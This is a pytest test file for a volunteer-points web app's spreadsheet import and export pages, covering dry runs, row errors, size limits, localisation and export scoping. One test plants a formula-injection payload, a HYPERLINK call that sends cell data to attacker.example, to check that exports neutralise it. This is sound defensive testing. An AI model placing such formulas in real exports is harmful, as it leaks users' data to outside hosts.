"""Spreadsheet pages: the import page (check, then import) and the list exports."""
import csv
import json
import io

from openpyxl import load_workbook
from sqlalchemy import func, select

from pointsapp.extensions import db
from pointsapp.models import User
from pointsapp.spreadsheets import csv_bytes
from tests.factories import yesterday as street_day
from tests.unit.helpers import award
from tests.unit.test_imports import GOOD, HEADER
from tests.web.conftest import field_errors, hidden_inputs, page_text, use_english


def _upload(client, data: bytes, name: str, dry_run: bool):
    page = client.get("/sheets/")
    form = {**hidden_inputs(page), "file": (io.BytesIO(data), name)}
    if dry_run:
        form["dry_run"] = "y"
    return client.post("/sheets/import", data=form, content_type="multipart/form-data")


def test_an_admin_checks_a_file_then_imports_it(client, street, login):
    login("street_admin")
    data = csv_bytes(HEADER, GOOD[1:])
    checked = _upload(client, data, "roster.csv", dry_run=True)
    assert checked.status_code == 200
    assert "共 4 行，3 个新人员，6 个新组织节点" in page_text(checked)
    assert db.session.scalar(select(User).where(User.username == "lz3")) is None
    done = _upload(client, data, "roster.csv", dry_run=False)
    assert done.status_code == 200
    db.session.expire_all()
    assert db.session.scalar(select(User).where(User.username == "lz3")) is not None


def test_a_file_with_problems_lists_each_row_and_imports_nothing(client, street, login):
    login("street_admin")
    rows = GOOD[1:] + [["青山社区", "", "5号楼", "", "lz5", "钱", "", ""]]
    resp = _upload(client, csv_bytes(HEADER, rows), "roster.csv", dry_run=False)
    assert resp.status_code == 422
    body = resp.get_data(as_text=True)
    assert '<table id="row-problems">' in body and "<td>6</td>" in body
    db.session.expire_all()
    assert db.session.scalar(select(User).where(User.username == "lz3")) is None
    junk = _upload(client, b"\x00\xff\xfe junk", "roster.xlsx", dry_run=True)
    assert junk.status_code == 422


def test_the_template_downloads_with_chinese_headers(client, street, login):
    login("admin_a")
    wb = load_workbook(io.BytesIO(client.get("/sheets/template.xlsx").data))
    assert [c.value for c in wb.active[1]] == HEADER


def test_exports_are_scoped_to_the_admins_subtree_and_carry_chinese_headers(client, street, login):
    award(street, street.vol_a, 15)
    award(street, street.vol_b, 25)
    login("admin_a")
    resp = client.get("/sheets/export/people.csv")
    assert resp.status_code == 200
    assert resp.data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(resp.data.decode("utf-8-sig"))))
    assert rows[0][:2] == ["用户名", "姓名"]
    usernames = {r[0] for r in rows[1:]}
    assert {"vol_a", "vol_a2"} <= usernames and "vol_b" not in usernames
    assert resp.headers["Content-Type"] == "text/csv; charset=utf-8"
    active = rows[0].index("启用")
    assert {r[active] for r in rows[1:]} == {"是"}  # in words, not True/False

    wb = load_workbook(io.BytesIO(client.get("/sheets/export/ledger.xlsx").data))
    ledger_rows = list(wb.active.iter_rows(min_row=2, values_only=True))
    assert [(r[3], r[4], r[5]) for r in ledger_rows] == [("张秀华", "计入积分", 15)]
    assert client.get("/sheets/export/secrets.xlsx").status_code == 404
    assert client.get("/sheets/export/people.pdf").status_code == 404


def test_names_that_look_like_formulas_export_as_text(client, street, login):
    evil = '=HYPERLINK("http://attacker.example/?d="&C3,"点击查看")'
    street.vol_a.full_name = evil
    street.vol_a2.full_name = "+86 刘建国"
    db.session.commit()
    login("admin_a")
    rows = list(csv.reader(io.StringIO(client.get("/sheets/export/people.csv").data.decode("utf-8-sig"))))
    names = {r[0]: r[1] for r in rows[1:]}
    # In the CSV a leading apostrophe keeps a spreadsheet program from running it.
    assert names["vol_a"] == "'" + evil and names["vol_a2"] == "'+86 刘建国"
    # In the XLSX the cell is text, exactly as typed.
    ws = load_workbook(io.BytesIO(client.get("/sheets/export/people.xlsx").data)).active
    cells = {row[0].value: row[1] for row in ws.iter_rows(min_row=2)}
    assert (cells["vol_a"].value, cells["vol_a"].data_type) == (evil, "s")
    assert (cells["vol_a2"].value, cells["vol_a2"].data_type) == ("+86 刘建国", "s")
    # Numbers stay numbers.
    assert csv_bytes(["n"], [[-5], ["-5"]]).decode("utf-8-sig").splitlines() == ["n", "-5", "'-5"]


def test_a_roster_over_its_limit_is_refused_beside_the_field_and_nothing_is_imported(app, client, street, login):
    login("street_admin")
    data = csv_bytes(HEADER, GOOD[1:])
    app.config["UPLOAD_MAX_BYTES"], before = len(data) - 1, app.config["UPLOAD_MAX_BYTES"]
    try:
        people = db.session.scalar(select(func.count()).select_from(User))
        resp = _upload(client, data, "roster.csv", dry_run=False)
    finally:
        app.config["UPLOAD_MAX_BYTES"] = before
    assert resp.status_code == 413
    assert any("文件太大" in e for e in field_errors(resp)), field_errors(resp)
    assert db.session.scalar(select(func.count()).select_from(User)) == people


def test_exports_name_every_activity_status_and_ledger_kind_in_words(client, street, login):
    from pointsapp.domain import claims, deductions, notice
    from tests.unit.test_lots import deduct_rule

    award(street, street.vol_a, 15)
    notice.set_notice_days(street.admin_b, street.community_b, 5)
    claims.record_attendance(street.staff_b, rule_id=street.meeting.id, activity_date=street_day(),
                             volunteer_ids=[street.vol_b.id], batch_key="on-notice")
    rule = deduct_rule(street, points=3)
    deductions.apply_deduction(street.staff_a, volunteer_id=street.vol_a.id, rule_id=rule.id, reason="违规",
                               submission_key="x1")
    db.session.commit()
    login("street_admin")
    wb = load_workbook(io.BytesIO(client.get("/sheets/export/activities.xlsx").data))
    statuses = {r[6] for r in wb.active.iter_rows(min_row=2, values_only=True)}
    assert statuses == {"已通过", "已通过，公示中"}
    wb = load_workbook(io.BytesIO(client.get("/sheets/export/ledger.xlsx").data))
    kinds = [r[4] for r in wb.active.iter_rows(min_row=2, values_only=True)]
    assert kinds == ["计入积分", "扣分"]


def test_exports_speak_english_in_the_english_ui(client, street, login):
    login("street_admin")
    use_english(client)
    wb = load_workbook(io.BytesIO(client.get("/sheets/export/activities.xlsx").data))
    assert [c.value for c in wb.active[1]][:3] == ["Number", "Date", "Volunteer"]


def test_a_volunteer_cannot_export(client, street, login):
    login("vol_a")
    assert client.get("/sheets/export/people.csv").status_code == 403


def _stream(client, data: bytes, name: str, dry_run: bool):
    page = client.get("/sheets/")
    form = {**hidden_inputs(page), "file": (io.BytesIO(data), name)}
    if dry_run:
        form["dry_run"] = "y"
    resp = client.post(
        "/sheets/import", data=form, content_type="multipart/form-data", headers={"Accept": "application/x-ndjson"}
    )
    assert resp.mimetype == "application/x-ndjson"
    return [json.loads(line) for line in resp.get_data(as_text=True).splitlines()]


def many_rows(n: int) -> list[list[str]]:
    return [["青山社区", "第二网格", f"{i}号楼", "", f"lz-{i}", f"楼长{i}", "", "楼长"] for i in range(n)]


def test_the_page_script_gets_the_rows_checked_as_they_go_then_the_result(client, street, login):
    login("street_admin")
    lines = _stream(client, csv_bytes(HEADER, many_rows(30)), "roster.csv", dry_run=False)
    assert lines[0] == {"total": 30}
    done = [line["done"] for line in lines[1:]]
    assert done == sorted(done) and done[-1] == 30 and len(done) > 2  # it moved, in order
    last = lines[-1]
    assert last["ok"] is True and "30 个新人员" in last["html"]
    db.session.expire_all()
    assert db.session.scalar(select(func.count()).select_from(User).where(User.username.like("lz-%"))) == 30


def test_a_streamed_check_or_a_file_with_problems_changes_nothing(client, street, login):
    login("street_admin")
    checked = _stream(client, csv_bytes(HEADER, many_rows(5)), "roster.csv", dry_run=True)
    assert checked[-1]["ok"] is True and "尚未做任何更改" in checked[-1]["html"]
    bad = many_rows(5) + [["青山社区", "", "5号楼", "", "lz5", "钱", "", ""]]
    refused = _stream(client, csv_bytes(HEADER, bad), "roster.csv", dry_run=False)
    assert refused[-1]["ok"] is False and "<td>7</td>" in refused[-1]["html"]
    db.session.expire_all()
    assert db.session.scalar(select(func.count()).select_from(User).where(User.username.like("lz-%"))) == 0


def test_export_times_are_to_the_second(client, street, login, issued_voucher):
    import re

    from pointsapp.domain import vouchers

    vouchers.confirm_redemption(street.cashier, issued_voucher.code)
    db.session.commit()
    login("street_admin")
    rows = list(csv.reader(io.StringIO(client.get("/sheets/export/redemptions.csv").data.decode("utf-8-sig"))))
    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d", rows[1][1])
    wb = load_workbook(io.BytesIO(client.get("/sheets/export/redemptions.xlsx").data))
    assert next(wb.active.iter_rows(min_row=2, values_only=True))[1].microsecond == 0
